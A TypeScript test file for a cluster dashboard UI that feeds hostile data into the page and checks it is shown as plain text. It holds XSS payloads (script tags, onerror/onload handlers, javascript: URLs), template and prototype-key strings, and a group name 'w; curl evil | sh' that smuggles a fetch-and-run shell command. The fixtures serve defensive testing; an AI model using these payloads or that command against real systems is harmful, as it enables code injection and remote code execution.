// @vitest-environment jsdom
import { h } from 'preact';
import { beforeEach, describe, expect, it } from 'vitest';
import { plainState } from '../../../cli/ui/look/plain-state.ts';
import { Doings } from '../../../ui/parts/doing.ts';
import type { DashboardState } from '../../../ui/state/types.ts';
import { Page } from '../../../ui/view/page.tsx';
import { capacity, group, instance, leavingInstance, node, now, pod, state } from '../states.ts';
import { createScreen, noView, type Screen } from './support.ts';

let screen: Screen;
beforeEach(() => {
  screen = createScreen();
});

/** The state with each of its names and messages replaced; what the page computes with stays. */
const kept = [
  'lifecycleState',
  'state',
  'cause',
  'kind',
  'standing',
  'outcome',
  'source',
  'market',
  'ec2State',
  'role',
];
function withTexts(value: unknown, text: string, name = ''): unknown {
  if (typeof value === 'string') return kept.includes(name) ? value : `${text}${value}`;
  if (Array.isArray(value)) return value.map((one) => withTexts(one, text, name));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, part]) => [key, withTexts(part, text, key)]));
}

const whole = (): DashboardState =>
  state({
    problems: [{ subject: 'workers', message: 'it has no hook' }],
    unknown: [{ what: 'the holds', reason: 'denied' }],
    groups: [group({ instances: [instance(), leavingInstance({ lastPass: 'waits' })], paused: 'paused' })],
    scheduleProblems: ['schedule x'],
    etcdStatus: { state: 'attention', reason: 'no quorum' },
  });

describe('the page of a hostile cluster', () => {
  it.each([
    ['elements', '<img src=x onerror="window.hit=1"><script>window.hit=1</script>'],
    ['an attribute that ends', '"><svg onload=window.hit=1>'],
    ['an address that is a script', 'javascript:window.hit=1//'],
    ['the name of a prototype', '__proto__'],
    ['the name of what all objects have', 'constructor'],
    ['a template', '${window.hit=1}{{window.hit=1}}'],
  ])('shows %s as the text that it is', (_, text) => {
    screen.show(plainState(withTexts(whole(), text) as DashboardState));
    expect(screen.all('script, img, iframe, object, [onerror], [onload]')).toEqual([]);
    for (const link of screen.all('a')) expect(link.getAttribute('href')).toMatch(/^#/);
    expect('hit' in window).toBe(false);
    expect(screen.main.textContent).toContain(text);
  });

  it('has nothing that turns the direction of writing or cannot be seen', () => {
    const shown = plainState(withTexts(whole(), 'a\u202eb\u0000c\u001b[31md\u2066e') as DashboardState);
    screen.show(shown);
    for (const mark of ['\u0000', '\u001b', '\u202e', '\u2066'])
      expect(screen.main.innerHTML).not.toContain(mark);
    expect(screen.textOf('.problems .title')).toContain('a?b?cd?e');
  });

  it('cuts a text without an end', () => {
    const { requests } = plainState(state({ requests: [{ ...request, nodeName: 'x'.repeat(1_000_000) }] }));
    expect(requests?.[0]?.nodeName).toHaveLength(2001);
    expect(plainState(state())).toEqual(state());
  });

  it('has no number that is none', () => {
    const shown = plainState(state({ etcd: undefined, readAt: Number.NaN }));
    expect(shown.readAt).toBeUndefined();
  });

  it('shows the first of thousands, and counts the rest', () => {
    const thousand = <Item>(of: (index: number) => Item): Item[] =>
      Array.from({ length: 3000 }, (_, index) => of(index));
    screen.show({
      otherNodes: thousand((index) => node({ name: `n${index}` })),
      waitingPods: thousand((index) => pod({ uid: `u${index}`, name: `shop/p${index}` })),
      problems: thousand((index) => ({ subject: `s${index}`, message: 'm' })),
      budgets: thousand((index) => ({
        name: `shop/b${index}`,
        allowed: 1,
        healthy: 2,
        desired: 1,
        expected: 2,
      })),
      groups: [
        group({ capacity: capacity({ holds: thousand((index) => ({ ...hold, name: `h${index}` })) }) }),
      ],
    });
    expect(screen.all('*').length).toBeLessThan(2500);
    const rest = screen.all('li.quiet').map(({ textContent }) => textContent);
    expect(rest).toEqual(expect.arrayContaining(['and 2,980 more', 'and 2,976 more', 'and 2,750 more']));
  });

  it('copies a command in which the name of a group is one word for a shell', () => {
    const copied: string[] = [];
    const nothing = (): void => undefined;
    const doing = {
      canAct: false,
      act: nothing,
      confirm: nothing,
      select: nothing,
      showEvents: nothing,
      copy: (text: string) => copied.push(text),
    };
    const groups = [
      group({
        autoScalingGroupName: 'w; curl evil | sh',
        capacity: capacity({ base: 0, floor: 0, holds: [], schedules: [] }),
      }),
    ];
    screen.draw(
      h(Doings.Provider, { value: doing, children: h(Page, { state: state({ groups }), view: noView }) }),
    );
    screen.main.querySelector<HTMLButtonElement>('.capacity-part .command button')?.click();
    expect(copied).toEqual(["drover hold create 'w; curl evil | sh' 3 --for 30m"]);
  });

  it('names a group whose name has spaces', () => {
    screen.show({ groups: [group({ autoScalingGroupName: 'my workers' })] });
    const id = screen.main.querySelector('section.group')?.getAttribute('aria-labelledby') ?? '';
    expect(id).not.toContain(' ');
    expect(document.getElementById(id)?.textContent).toBe('my workers');
  });
});

const request = {
  name: 'csr',
  nodeName: 'n',
  kind: 'client',
  requester: 'r',
  at: now,
  state: 'pending',
} as const;
const hold = {
  name: 'h',
  nodes: 1,
  until: now + 60_000,
  state: 'met',
  reason: 'all nodes are ready',
} as const;
